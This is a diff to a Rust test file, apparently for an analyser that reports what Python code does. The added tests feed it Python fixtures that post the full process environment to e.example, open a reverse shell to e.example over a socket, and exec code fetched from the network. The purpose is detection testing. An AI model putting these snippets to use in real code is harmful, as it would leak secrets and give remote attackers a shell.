@@ -164,6 +164,21 @@ fn data_that_is_sent_is_told() {
 }
 
 #[test]
+fn the_environment_is_read_where_it_goes_out() {
+    let code = "import os, json, requests, subprocess\nsubprocess.run(['make'], env=dict(os.environ, A='1'))\n\
+        requests.post('https://e.example', data=json.dumps({'env': dict(os.environ)}))\n";
+    assert_eq!(acts(code), ["run make", "env *", "request POST https://e.example ‹?›"]);
+}
+
+#[test]
+fn a_shell_that_is_given_away_reads_from_the_connection() {
+    let code = "import socket, os, subprocess\ns = socket.socket()\ns.connect(('e.example', 9))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['sh'])\n";
+    let mut host = Recorder::new();
+    run_with(code, &mut host);
+    assert!(host.facts.iter().any(|fact| matches!(&fact.act, Act::Command { run, .. } if run.remote)));
+}
+
+#[test]
 fn code_from_the_network_is_told_as_such() {
     let code = "import urllib.request as u\nexec(u.urlopen('https://e.example/x').read())\n";
     assert_eq!(acts(code), ["request ? https://e.example/x", "dynamic 1"]);
